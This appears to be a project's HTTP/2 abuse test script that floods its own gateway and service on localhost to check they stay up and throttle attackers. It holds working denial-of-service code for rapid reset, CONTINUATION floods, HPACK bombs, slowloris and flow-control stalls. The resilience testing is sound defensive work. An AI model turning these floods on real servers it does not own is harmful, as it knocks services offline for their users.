#!/usr/bin/python3
"""HTTP/2 abuse tests (issue 8, "Abuse and scanners") against the gateway and one service.

    tests/abuse/h2_abuse.py [--gateway HOST:PORT] [--service NAME=HOST:PORT] [options]

Targets: the gateway (TLS, ALPN h2) and one service's h2c port directly. Attacks, each on
its own connection(s) while a probe thread keeps sending normal requests on fresh
connections:

    rapid-reset       HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487)
    continuation      HEADERS without END_HEADERS + endless CONTINUATION (CVE-2024-28182)
    settings-flood    SETTINGS frames sent without reading the ACKs
    settings-entries  one SETTINGS frame with 2000 entries
    ping-flood        PING frames sent without reading the ACKs
    hpack-huge        one 1 MiB header field over CONTINUATION frames
    hpack-bomb        a 4 KiB dynamic-table entry referenced 8000 times (32 MB decoded)
    slowloris         many connections dribbling a request header block byte by byte
    slow-preface      many connections dribbling the connection preface byte by byte
    window-zero       INITIAL_WINDOW_SIZE 0: responses that can never be sent; its
                      "throttle" check is strict: every answered stream must be reset
                      (or its connection closed) within --window (the services' send-stall
                      deadline is their request timeout, nginx's is send_timeout)
    stop-reading      a client with open flow-control windows and a small receive buffer
                      sends GETs of the largest cheap answer until the server stops reading
                      it, then never reads its socket; its "throttle" check is strict: the
                      server's end of the connection (/proc/net/tcp) must leave ESTABLISHED
                      within --write-timeout + --slack seconds (the services' write timeout,
                      PHR_WRITE_TIMEOUT_MS; nginx's send_timeout for the gateway)

After each attack three checks, each counted: "serve" (every probe during and after the
attack answered the expected status within --deadline), "rss" (VmRSS of the service,
from $PHR_VAR/run/<svc>.pid, and of the nginx workers stayed under --rss-mib), and
"throttle" (the attacking connection got GOAWAY, RST_STREAM, a 4xx answer, was closed,
or the server stopped reading it). Prints "N passed, N failed"; exit 1 on any failure.
Needs python3-h2 (Debian; it brings hpack and hyperframe).
"""

import argparse
import os
import re
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.request

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
F_END_STREAM, F_ACK, F_END_HEADERS, F_PADDED, F_PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
ERR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
             4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
             7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
             11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def frame(ftype, flags, sid, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) +
            struct.pack(">I", sid & 0x7FFFFFFF) + payload)


def hpack_int(value, prefix_bits, flags):
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([flags | value])
    out = [flags | top]
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hstr(s):
    return hpack_int(len(s), 7, 0) + s


def lit_idx(index, value):
    """Literal without indexing, name from the static table."""
    return hpack_int(index, 4, 0) + hstr(value)


def lit_new(name, value, incremental=False):
    """Literal with a new name; with incremental indexing it enters the dynamic table."""
    return (b"\x40" if incremental else b"\x00") + hstr(name) + hstr(value)


class Target:
    def __init__(self, label, host, port, tls, probes, pids):
        self.label, self.host, self.port, self.tls = label, host, port, tls
        self.probes = probes  # [(path, {expected statuses})]
        self.pids = pids      # callable -> [(name, pid)]
        self.authority = ("%s:%d" % (host, port)).encode()
        self.attack_path = probes[-1][0].encode()

    def request_block(self, path=None, extra=b""):
        scheme = b"\x87" if self.tls else b"\x86"
        return (b"\x82" + scheme + lit_idx(4, path or self.attack_path) +
                lit_idx(1, self.authority) + extra)


def connect(target, timeout, rcvbuf=0):
    if rcvbuf:  # set before connect: the window offered in the handshake follows it
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(timeout)
        sock.connect((target.host, target.port))
    else:
        sock = socket.create_connection((target.host, target.port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not target.tls:
        return sock
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    tls = ctx.wrap_socket(sock, server_hostname="localhost")
    if tls.selected_alpn_protocol() != "h2":
        tls.close()
        raise OSError("the gateway did not negotiate h2")
    return tls


class RawConn:
    """One attacking connection: raw frames out, server frames parsed and recorded."""

    def __init__(self, target, settings=b"", timeout=5.0, preface=True, rcvbuf=0):
        self.target = target
        self.t0 = time.monotonic()
        self.t_react = None     # seconds from connect to the server's first reaction
        self.auto_ack = True    # acknowledge the server's SETTINGS (off while dribbling)
        self.sock = connect(target, timeout, rcvbuf)
        self.buf = b""
        self.closed = None      # why the peer ended the connection
        self.goaway = None      # error code of the peer's GOAWAY
        self.rst = {}           # error code -> count
        self.statuses = []      # :status of the answers seen
        self.blocked = False    # a send timed out: the server stopped reading
        self.frames_in = 0
        self.answered = set()   # streams with response headers
        self.finished = set()   # streams the server ended (END_STREAM) or reset
        self.held = 0           # window-zero: answered streams neither ended nor reset
        self.hdr_block = {}
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data, timeout=3.0):
        if self.closed is not None:
            return False
        try:
            self.sock.settimeout(timeout)
            self.sock.sendall(data)
            return True
        except socket.timeout:
            self.blocked = True
            self.note()
            return False
        except (OSError, ssl.SSLError) as e:
            self.closed = "send: %s" % e.__class__.__name__
            self.note()
            return False

    def pump(self, timeout=0.0, until=None):
        """Reads what arrives within |timeout| seconds (until the predicate holds)."""
        end = time.monotonic() + timeout
        while self.closed is None:
            left = end - time.monotonic()
            try:
                self.sock.settimeout(max(left, 0.0) if left > 0 else 0.0)
                data = self.sock.recv(65536)
            except (BlockingIOError, socket.timeout, ssl.SSLWantReadError):
                if time.monotonic() >= end:
                    break
                continue
            except (OSError, ssl.SSLError) as e:
                self.closed = "recv: %s" % e.__class__.__name__
                self.note()
                break
            if not data:
                self.closed = "EOF"
                self.note()
                break
            self.buf += data
            self.parse()
            self.note()
            if until is not None and until():
                break
            if time.monotonic() >= end:
                break

    def parse(self):
        buf, off = self.buf, 0
        while len(buf) - off >= 9:
            length = int.from_bytes(buf[off:off + 3], "big")
            if len(buf) - off < 9 + length:
                break
            ftype, flags = buf[off + 3], buf[off + 4]
            sid = int.from_bytes(buf[off + 5:off + 9], "big") & 0x7FFFFFFF
            payload = buf[off + 9:off + 9 + length]
            off += 9 + length
            self.frames_in += 1
            self.on_frame(ftype, flags, sid, payload)
        self.buf = buf[off:]

    def on_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & F_ACK and self.auto_ack:
            self.send(frame(SETTINGS, F_ACK, 0))
        elif ftype == GOAWAY and len(payload) >= 8:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif ftype == RST_STREAM and len(payload) >= 4:
            code = int.from_bytes(payload[0:4], "big")
            self.rst[code] = self.rst.get(code, 0) + 1
            self.finished.add(sid)
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                if flags & F_PADDED:
                    payload = payload[1:len(payload) - payload[0]]
                if flags & F_PRIORITY:
                    payload = payload[5:]
                self.hdr_block[sid] = payload
            else:
                self.hdr_block[sid] = self.hdr_block.get(sid, b"") + payload
            if flags & F_END_HEADERS:
                self.decode(self.hdr_block.pop(sid, b""))
                self.answered.add(sid)
        if ftype in (DATA, HEADERS) and flags & F_END_STREAM:
            self.finished.add(sid)

    def decode(self, block):
        try:
            for name, value in self.decoder.decode(block, raw=True):
                if name == b":status":
                    self.statuses.append(int(value))
        except Exception:  # noqa: BLE001 - a broken answer is recorded, not fatal
            self.statuses.append(-1)

    def flood(self, chunks, stop_early=True, read=False):
        """Sends the chunks; stops when the peer reacts. Returns the number sent."""
        sent = 0
        for chunk in chunks:
            if not self.send(chunk):
                break
            sent += 1
            if read:
                self.pump(0.0)
            if stop_early and self.reacted():
                break
        return sent

    def note(self):
        if self.t_react is None and self.reacted():
            self.t_react = time.monotonic() - self.t0

    def reacted(self):
        return (self.closed is not None or self.goaway is not None or bool(self.rst) or
                self.blocked or any(400 <= s < 500 or s < 0 for s in self.statuses))

    def verdict(self):
        if self.held:
            return []
        parts = []
        if self.goaway is not None:
            parts.append("GOAWAY %s" % ERR_NAMES.get(self.goaway, self.goaway))
        if self.rst:
            parts.append("RST " + ",".join("%s x%d" % (ERR_NAMES.get(c, c), n)
                                           for c, n in sorted(self.rst.items())))
        bad = sorted({s for s in self.statuses if 400 <= s < 500 or s < 0})
        if bad:
            parts.append("status " + ",".join(str(s) for s in bad))
        if self.blocked:
            parts.append("server stopped reading")
        if self.closed is not None:
            parts.append("closed (%s)" % self.closed)
        return parts

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# ---- normal requests and memory ------------------------------------------------------

def probe(target, path, deadline):
    """One GET on a fresh connection with python3-h2; returns (status, seconds)."""
    t0 = time.monotonic()
    end = t0 + deadline
    sock = connect(target, deadline)
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.send_headers(1, [(":method", "GET"), (":scheme", "https" if target.tls else "http"),
                              (":authority", target.authority.decode()), (":path", path),
                              ("user-agent", "h2_abuse-probe")], end_stream=True)
        sock.sendall(conn.data_to_send())
        status = None
        while True:
            left = end - time.monotonic()
            if left <= 0:
                raise socket.timeout("deadline")
            sock.settimeout(left)
            data = sock.recv(65536)
            if not data:
                raise OSError("EOF before the answer")
            done = False
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived):
                    status = int(dict(ev.headers)[b":status"])
                elif isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset,
                                     h2.events.ConnectionTerminated)):
                    done = True
            sock.sendall(conn.data_to_send())
            if done:
                return status, time.monotonic() - t0
    finally:
        sock.close()


def rss_kib(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def read_pid(path):
    try:
        with open(path) as f:
            return int(f.readline().strip())
    except (OSError, ValueError):
        return None


def nginx_workers(master):
    out = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % entry) as f:
                fields = f.read().rsplit(")", 1)[1].split()
            if int(fields[1]) == master:
                out.append(int(entry))
        except (OSError, IndexError, ValueError):
            continue
    return out


class Watch(threading.Thread):
    """Probes the target and samples RSS until stopped."""

    def __init__(self, target, deadline, interval):
        super().__init__(daemon=True)
        self.target, self.deadline, self.interval = target, deadline, interval
        self.stop_ev = threading.Event()
        self.ok = 0
        self.failures = []
        self.worst = 0.0
        self.peak = {}

    def sample(self):
        for name, pid in self.target.pids():
            kib = rss_kib(pid)
            if kib is not None and kib > self.peak.get(name, 0):
                self.peak[name] = kib

    def probe_all(self):
        for path, expect in self.target.probes:
            try:
                status, secs = probe(self.target, path, self.deadline)
                self.worst = max(self.worst, secs)
                if status in expect:
                    self.ok += 1
                else:
                    self.failures.append("%s -> %s" % (path, status))
            except (OSError, ssl.SSLError, h2.exceptions.ProtocolError) as e:
                self.failures.append("%s -> %s %s" % (path, e.__class__.__name__, e))

    def run(self):
        while not self.stop_ev.is_set():
            self.sample()
            self.probe_all()
            self.stop_ev.wait(self.interval)

    def finish(self):
        self.stop_ev.set()
        self.join()
        self.sample()
        self.probe_all()  # one more after the attack


# ---- attacks: each returns the attacking RawConn(s) ---------------------------------

def chunked(frames, per):
    for i in range(0, len(frames), per):
        yield b"".join(frames[i:i + per])


def a_rapid_reset(t, opts):
    c = RawConn(t)
    c.pump(0.5)
    cancel = struct.pack(">I", 8)
    block = t.request_block()
    pairs = [frame(HEADERS, F_END_STREAM | F_END_HEADERS, sid, block) + frame(RST_STREAM, 0,
                                                                              sid, cancel)
             for sid in range(1, 2 * opts.streams, 2)]
    sent = c.flood(chunked(pairs, 200), stop_early=False, read=True)
    c.pump(2.0, until=lambda: c.goaway is not None or c.closed is not None)
    return [c], "%d of %d chunks of 200 HEADERS+RST sent" % (sent, (opts.streams + 199) // 200)


def a_continuation(t, opts):
    c = RawConn(t)
    c.pump(0.5)
    head = frame(HEADERS, F_END_STREAM, 1, t.request_block())
    chunks = (b"".join(frame(CONTINUATION, 0, 1, lit_new(b"x-c%d" % i, b"v" * 32))
                       for i in range(n, n + 500))
              for n in range(0, opts.frames // 10, 500))
    c.send(head)
    sent = c.flood(chunks, read=True)
    c.pump(2.0, until=c.reacted)
    return [c], "%d CONTINUATION frames sent in chunks of 500" % (sent * 500)


def a_settings_flood(t, opts):
    c = RawConn(t)
    c.pump(0.5)
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))
    sent = c.flood((one * 2000 for _ in range(opts.frames // 2000)), read=False)
    c.pump(3.0, until=lambda: c.goaway is not None or c.closed is not None)
    return [c], "%d SETTINGS frames sent without reading" % (sent * 2000)


def a_settings_entries(t, opts):
    c = RawConn(t)
    c.pump(0.5)
    big = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 2000)
    sent = c.flood((big * 10 for _ in range(opts.frames // 1000)), read=False)
    c.pump(3.0, until=lambda: c.goaway is not None or c.closed is not None)
    return [c], "%d SETTINGS frames of 2000 entries sent without reading" % (sent * 10)


def a_ping_flood(t, opts):
    c = RawConn(t)
    c.pump(0.5)
    ping = frame(PING, 0, 0, b"abusive!")
    sent = c.flood((ping * 2000 for _ in range(opts.frames // 2000)), read=False)
    c.pump(3.0, until=lambda: c.goaway is not None or c.closed is not None)
    return [c], "%d PING frames sent without reading" % (sent * 2000)


def a_hpack_huge(t, opts):
    c = RawConn(t)
    c.pump(0.5)
    block = t.request_block(extra=lit_new(b"x-huge", b"A" * (1 << 20)))
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = [frame(HEADERS, F_END_STREAM, 1, pieces[0])]
    for i, p in enumerate(pieces[1:], 1):
        frames.append(frame(CONTINUATION, F_END_HEADERS if i == len(pieces) - 1 else 0, 1, p))
    sent = c.flood(chunked(frames, 8), read=True)
    c.pump(3.0, until=c.reacted)
    return [c], "1 MiB header field, %d of %d frames sent" % (min(sent * 8, len(frames)),
                                                              len(frames))


def a_hpack_bomb(t, opts):
    c = RawConn(t)
    c.pump(0.5)
    # Entry size 32 + 6 + 4000 < 4096 (the default table size): 8000 one-byte references
    # decode to 32 MB of header fields.
    block = (t.request_block(extra=lit_new(b"x-bomb", b"B" * 4000, incremental=True)) +
             b"\xbe" * 8000)
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = [frame(HEADERS, F_END_STREAM | (F_END_HEADERS if len(pieces) == 1 else 0), 1,
                    pieces[0])]
    for i, p in enumerate(pieces[1:], 1):
        frames.append(frame(CONTINUATION, F_END_HEADERS if i == len(pieces) - 1 else 0, 1, p))
    c.flood(frames, read=True)
    c.pump(3.0, until=c.reacted)
    return [c], "4 KiB table entry referenced 8000 times"


def dribble(conns, data_of, window, opts, label):
    """Sends data_of(i) one byte per connection per second for |window| seconds."""
    pos = [0] * len(conns)
    end = time.monotonic() + window
    while time.monotonic() < end:
        tick = time.monotonic()
        for i, c in enumerate(conns):
            if c.closed is None and c.goaway is None and pos[i] < len(data_of(i)):
                c.send(data_of(i)[pos[i]:pos[i] + 1], timeout=0.5)
                pos[i] += 1
            c.pump(0.0)
        time.sleep(max(0.0, 1.0 - (time.monotonic() - tick)))
    for c in conns:
        c.pump(0.05)
    return "%d connections, %s, %d s" % (len(conns), label, window)


def open_many(t, n, **kw):
    conns = []
    for _ in range(n):
        try:
            conns.append(RawConn(t, **kw))
        except OSError as e:
            print("  note: connection %d refused: %s" % (len(conns), e))
            break
    return conns


def a_slowloris(t, opts):
    conns = open_many(t, opts.conns)
    for c in conns:
        c.pump(0.2, until=lambda c=c: c.frames_in > 0)  # the server's SETTINGS, acknowledged
        c.auto_ack = False
    # A HEADERS frame announcing a 4000-byte block, which never completes in the window.
    block = t.request_block(extra=b"".join(lit_new(b"x-slow-%d" % i, b"s" * 80)
                                           for i in range(40)))
    data = frame(HEADERS, F_END_STREAM | F_END_HEADERS, 1, block)
    return conns, dribble(conns, lambda i: data, opts.window, opts, "header block byte by byte")


def a_slow_preface(t, opts):
    conns = open_many(t, opts.conns, preface=False)
    for c in conns:
        c.auto_ack = False
    data = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, F_END_STREAM | F_END_HEADERS, 1,
                                                   t.request_block())
    return conns, dribble(conns, lambda i: data, opts.window, opts, "preface byte by byte")


def a_window_zero(t, opts):
    """Pass/fail: every answered stream must be reset (or the connection closed) in time."""
    conns = []
    for _ in range(opts.w0_conns):
        c = RawConn(t, settings=struct.pack(">HI", 4, 0))
        block = t.request_block(path=t.window_path.encode())
        c.send(b"".join(frame(HEADERS, F_END_STREAM | F_END_HEADERS, sid, block)
                        for sid in range(1, 2 * opts.w0_streams, 2)))
        conns.append(c)
    end = time.monotonic() + opts.window
    while time.monotonic() < end:
        for c in conns:
            c.pump(0.0)
        time.sleep(0.5)
    for c in conns:
        if c.closed is None:
            c.held = len(c.answered - c.finished)
    return conns, "%d connections x %d streams, no window for %d s: %d answered, %d held" % (
        len(conns), opts.w0_streams, opts.window, sum(len(c.answered) for c in conns),
        sum(c.held for c in conns))


def server_end(port, client_port):
    """(state, tx_queue, rx_queue) of the server's end of a local TCP connection, from
    /proc/net/tcp(6); None once it is gone."""
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            col = row.split()
            if (int(col[1].rsplit(":", 1)[1], 16) == port and
                    int(col[2].rsplit(":", 1)[1], 16) == client_port):
                tx, rx = col[4].split(":")
                return int(col[3], 16), int(tx, 16), int(rx, 16)
    return None


TCP_ESTABLISHED = 1


def a_stop_reading(t, opts):
    """Pass/fail: the server must close a connection whose client stopped reading."""
    top = 0x7FFFFFFF
    c = RawConn(t, settings=struct.pack(">HI", 4, top), rcvbuf=16384)
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", top - 65535)))
    c.pump(0.5)  # the server's SETTINGS, acknowledged; from here on nothing is read
    c.auto_ack = False
    cport = c.sock.getsockname()[1]
    block = t.request_block(path=t.big_path.encode())
    sid, sent, paused = 1, 0, None
    # Batches small enough for the server to answer before the next one (its stream limit
    # is not the subject here), until its receive queue stays non-empty: it stopped reading.
    for _ in range(opts.stop_batches):
        c.send(b"".join(frame(HEADERS, F_END_STREAM | F_END_HEADERS, s, block)
                        for s in range(sid, sid + 2 * 20, 2)), timeout=0.5)
        sid += 40
        sent += 20
        time.sleep(0.05)
        end = server_end(t.port, cport)
        if end is None or end[0] != TCP_ESTABLISHED:  # closed already (nginx may do this)
            c.closed = "server closed it while the GETs were being sent"
            c.t_react = time.monotonic() - c.t0
            return [c], "%d GETs of %s sent unread; the server closed the connection before " \
                "it stopped reading" % (sent, t.big_path)
        if end[2] > 0 or c.blocked:
            paused = time.monotonic()
            break
    if paused is None:
        c.held = 1
        return [c], "%d GETs of %s sent unread, the server never stopped reading" % (
            sent, t.big_path)
    limit = t.write_timeout + opts.slack
    closed_after = None
    while time.monotonic() - paused < limit:
        end = server_end(t.port, cport)
        if end is None or end[0] != TCP_ESTABLISHED:
            closed_after = time.monotonic() - paused
            break
        time.sleep(0.2)
    if closed_after is None:
        c.held = 1  # still open past the write timeout: the check fails
        return [c], "%d GETs of %s sent unread; still open %.0f s after the server stopped " \
            "reading it" % (sent, t.big_path, limit)
    c.closed = "server closed it %.1f s after it stopped reading" % closed_after
    c.t_react = time.monotonic() - c.t0
    return [c], "%d GETs of %s sent unread; closed by the server %.1f s after it stopped " \
        "reading (write timeout %.1f s)" % (sent, t.big_path, closed_after, t.write_timeout)


ATTACKS = [
    ("rapid-reset", a_rapid_reset),
    ("continuation", a_continuation),
    ("settings-flood", a_settings_flood),
    ("settings-entries", a_settings_entries),
    ("ping-flood", a_ping_flood),
    ("hpack-huge", a_hpack_huge),
    ("hpack-bomb", a_hpack_bomb),
    ("slowloris", a_slowloris),
    ("slow-preface", a_slow_preface),
    ("window-zero", a_window_zero),
    ("stop-reading", a_stop_reading),
]


class Counter:
    def __init__(self):
        self.passed = 0
        self.failed = 0

    def check(self, name, ok, detail):
        print("%s %s: %s" % ("PASS" if ok else "FAIL", name, detail), flush=True)
        if ok:
            self.passed += 1
        else:
            self.failed += 1


def run_attack(t, name, fn, opts, counter):
    tag = "%s %s" % (t.label, name)
    watch = Watch(t, opts.deadline, opts.interval)
    watch.start()
    conns = []
    try:
        conns, what = fn(t, opts)
    except (OSError, ssl.SSLError) as e:
        what = "attack aborted: %s %s" % (e.__class__.__name__, e)
    watch.finish()
    print("  %s: %s" % (tag, what), flush=True)

    counter.check(tag + " serve", not watch.failures and watch.ok > 0,
                  "%d probes ok, worst %.2f s (deadline %.1f s)%s" % (
                      watch.ok, watch.worst, opts.deadline,
                      "; failed: " + "; ".join(watch.failures[:3]) if watch.failures else ""))
    bound = opts.rss_mib * 1024
    over = {n: k for n, k in watch.peak.items() if k >= bound}
    counter.check(tag + " rss", not over and bool(watch.peak),
                  "peak " + ", ".join("%s %.1f MiB" % (n, k / 1024.0)
                                      for n, k in sorted(watch.peak.items())) +
                  " (bound %d MiB)" % opts.rss_mib)
    if not conns:
        counter.check(tag + " throttle", False, "no attacking connection")
        return
    stuck = [c for c in conns if not c.verdict()]
    kinds = {}
    for c in conns:
        for p in c.verdict() or ["still open, no reaction"]:
            key = p.split(" (")[0] if p.startswith("closed") else p
            kinds[key] = kinds.get(key, 0) + 1
    summary = "; ".join("%s: %d" % (k, n) for k, n in sorted(kinds.items()))
    times = sorted(c.t_react for c in conns if c.t_react is not None)
    if times:
        summary += "; first reaction after %.1f-%.1f s" % (times[0], times[-1])
    counter.check(tag + " throttle", not stuck,
                  "%d of %d attacking connection(s) reacted to [%s]" % (
                      len(conns) - len(stuck), len(conns), summary))
    for c in conns:
        c.close()


def console_script(host, port):
    """The path of the staff console's script (the gateway's largest anonymous answer)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        with urllib.request.urlopen("https://%s:%d/" % (host, port), timeout=5,
                                    context=ctx) as r:
            m = re.search(rb'/assets/[A-Za-z0-9_.-]+\.js', r.read())
            return m.group(0).decode() if m else "/"
    except (OSError, ValueError):
        return "/"


def parse_hostport(s):
    host, _, port = s.rpartition(":")
    return host or "127.0.0.1", int(port)


def main():
    env = os.environ
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--gateway", default="127.0.0.1:%s" % env.get("PHR_GATEWAY_PORT", "8443"),
                    help="gateway HOST:PORT (TLS, ALPN h2); '' to skip")
    ap.add_argument("--service", default="records=127.0.0.1:%s" %
                    env.get("PHR_RECORDS_PORT", "9102"),
                    help="NAME=HOST:PORT of one service's h2c port; '' to skip")
    ap.add_argument("--var", default=env.get("PHR_VAR", "var"), help="stack directory")
    ap.add_argument("--only", default="", help="comma-separated attack names")
    ap.add_argument("--deadline", type=float, default=3.0, help="probe deadline, seconds")
    ap.add_argument("--interval", type=float, default=0.5, help="pause between probes")
    ap.add_argument("--rss-mib", type=int, default=64, help="RSS bound of every process")
    ap.add_argument("--streams", type=int, default=20000, help="rapid-reset streams")
    ap.add_argument("--frames", type=int, default=1000000, help="frames per flood")
    ap.add_argument("--conns", type=int, default=200, help="slowloris connections")
    ap.add_argument("--window", type=int, default=25,
                    help="seconds the slow attacks last (above the servers' header timeouts)")
    ap.add_argument("--w0-conns", type=int, default=20, help="window-zero connections")
    ap.add_argument("--w0-streams", type=int, default=50, help="window-zero streams each")
    ap.add_argument("--write-timeout", type=float,
                    default=int(env.get("PHR_WRITE_TIMEOUT_MS", "30000")) / 1000.0,
                    help="stop-reading: the service's write timeout, seconds (the gateway's "
                    "is --gateway-send-timeout)")
    ap.add_argument("--gateway-send-timeout", type=float, default=10.0,
                    help="stop-reading: nginx's send_timeout (deploy/nginx)")
    ap.add_argument("--slack", type=float, default=5.0, help="stop-reading: added to the timeout")
    ap.add_argument("--stop-batches", type=int, default=500,
                    help="stop-reading: most batches of 20 GETs sent")
    opts = ap.parse_args()

    run = os.path.join(opts.var, "run")
    services = ["auth", "records", "notification", "audit"]

    def gateway_pids():
        out = []
        master = read_pid(os.path.join(run, "nginx.pid"))
        if master is not None:
            out += [("nginx-worker-%d" % p, p) for p in nginx_workers(master)]
        for s in services:
            pid = read_pid(os.path.join(run, s + ".pid"))
            if pid is not None:
                out.append((s, pid))
        return out

    targets = []
    if opts.gateway:
        host, port = parse_hostport(opts.gateway)
        g = Target("gateway", host, port, True,
                   [("/healthz", {200}), ("/api/v1/me/records", {401})], gateway_pids)
        g.window_path = "/api/v1/me/records"
        g.big_path = console_script(host, port)
        g.write_timeout = opts.gateway_send_timeout
        targets.append(g)
    if opts.service:
        name, _, hp = opts.service.partition("=")
        host, port = parse_hostport(hp)
        pidfile = os.path.join(run, name + ".pid")
        s = Target(name, host, port, False, [("/livez", {200}), ("/readyz", {200})],
                   lambda n=name, f=pidfile: [(n, p) for p in [read_pid(f)] if p is not None])
        s.window_path = "/metrics"
        s.big_path = "/metrics"
        s.write_timeout = opts.write_timeout
        targets.append(s)
    only = {a for a in opts.only.split(",") if a}
    unknown = only - {n for n, _ in ATTACKS}
    if unknown:
        ap.error("unknown attack(s): " + ", ".join(sorted(unknown)))

    counter = Counter()
    for t in targets:
        try:
            for path, expect in t.probes:
                status, secs = probe(t, path, opts.deadline)
                if status not in expect:
                    raise OSError("%s answered %s" % (path, status))
        except (OSError, ssl.SSLError) as e:
            counter.check(t.label + " reachable", False, str(e))
            continue
        for aname, fn in ATTACKS:
            if not only or aname in only:
                run_attack(t, aname, fn, opts, counter)
    print("%d passed, %d failed" % (counter.passed, counter.failed))
    return 1 if counter.failed or counter.passed == 0 else 0


if __name__ == "__main__":
    sys.exit(main())
